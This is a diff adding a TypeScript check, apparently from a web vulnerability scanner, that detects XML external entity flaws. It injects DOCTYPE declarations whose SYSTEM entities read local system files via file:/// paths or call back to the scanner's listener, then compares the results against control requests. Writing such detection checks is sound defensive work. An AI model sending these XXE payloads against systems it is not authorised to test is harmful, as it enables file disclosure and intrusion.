@@ -1,0 +1,63 @@
+/*
+ * A parser that expands entities of a document itself is common and safe; it is asked first, for one request. Shown is an entity of another
+ * place: a public file of the system, or our listener.
+ */
+import { askWith, confirmed, notConfirmed } from '#prober/checks/asking.ts';
+import type { Check, CheckResult, Evidence, InputTrial } from '#prober/checks/check.ts';
+import { lineOf, OS_RELEASE, SERVICES } from '#prober/checks/judging/system-files.ts';
+
+export const xmlExternalEntities: Check = {
+  id: 'live-xml-external-entities',
+  title: 'External entities of XML',
+  categories: ['xml external entities'],
+  cwe: 611,
+  severity: 'high',
+  isPassive: false,
+  fix: 'Switch off document types, or at least external entities, in the XML parser.',
+  of: 'input',
+  places: ['body', 'query', 'form', 'json', 'multipart', 'cookie', 'header'],
+  run,
+};
+
+async function run(trial: InputTrial): Promise<CheckResult> {
+  const takesXml = trial.finding !== undefined || /^\s*</.test(trial.usual) || (trial.parameter.place === 'body' && /xml/.test(trial.requestWith('').body?.type ?? 'xml')) || /xml|soap|svg/i.test(trial.parameter.name);
+  if (!takesXml) return notConfirmed('Nothing: the parameter holds no XML.');
+  const [one, other] = [trial.word('entity'), trial.word('entity-other')];
+  const inner = await askWith(trial, documentWith(trial, `<!ENTITY whitebox1 "${one}"><!ENTITY whitebox2 "${other}">`, '&whitebox1;&whitebox2;'));
+  const expands = inner?.response.body.includes(`${one}${other}`) === true;
+  if (!expands && trial.finding === undefined) return notConfirmed('Entities of the document itself, which did not show.');
+  const evidence = (await shownByFile(trial)) ?? (await shownByCallback(trial));
+  return evidence === undefined ? notConfirmed('Entities of a public file of the system and, where there is a listener, of our own address.') : confirmed(evidence);
+}
+
+async function shownByFile(trial: InputTrial): Promise<Evidence | undefined> {
+  for (const file of [OS_RELEASE, SERVICES]) {
+    const attack = await askWith(trial, documentWith(trial, `<!ENTITY whitebox SYSTEM "file:///${file.path}">`, '&whitebox;'));
+    const text = attack === undefined ? undefined : lineOf(file, attack.response.body);
+    if (attack === undefined || text === undefined) continue;
+    const control = await askWith(trial, documentWith(trial, '<!ENTITY whitebox "">', '&whitebox;'));
+    if (control === undefined || lineOf(file, control.response.body) !== undefined) continue;
+    return { attack, control, effect: { kind: 'body-contains', text }, lookFor: `The line “${text}” of /${file.path} in the answer to the first request: the parser read the file.` };
+  }
+  return undefined;
+}
+
+async function shownByCallback(trial: InputTrial): Promise<Evidence | undefined> {
+  if (trial.callbacks === undefined) return undefined;
+  const url = await trial.callbacks.urlFor(`xml-external-entities ${trial.word('entity-callback')}`);
+  const attack = await askWith(trial, documentWith(trial, `<!ENTITY whitebox SYSTEM "${url}">`, '&whitebox;'));
+  await trial.pause(CALLBACK_MS);
+  if (attack === undefined || (await trial.callbacks.arrivals(url)).length === 0) return undefined;
+  const control = await askWith(trial, documentWith(trial, '<!ENTITY whitebox "">', '&whitebox;'));
+  return control === undefined ? undefined : { attack, control, effect: { kind: 'callback', url }, lookFor: `A request of the target to ${url}, which only the first document names.` };
+}
+
+const CALLBACK_MS = 1500;
+
+/** The usual document, or the smallest one, with declarations before it and the reference as the text of each element that has text alone. */
+function documentWith(trial: InputTrial, declarations: string, reference: string): string {
+  const usual = trial.usual.replace(/^\s*<\?xml[^>]*\?>/, '').replace(/<!DOCTYPE[^>[]*(?:\[[^\]]*\])?\s*>/i, '').trim();
+  const root = /^<([A-Za-z_][\w.:-]*)/.exec(usual)?.[1];
+  const body = root === undefined ? `<whitebox>${reference}</whitebox>` : usual.replace(/>([^<>]*)<\//g, `>${reference}</`);
+  return `<?xml version="1.0"?><!DOCTYPE ${root ?? 'whitebox'} [${declarations}]>${body}`;
+}
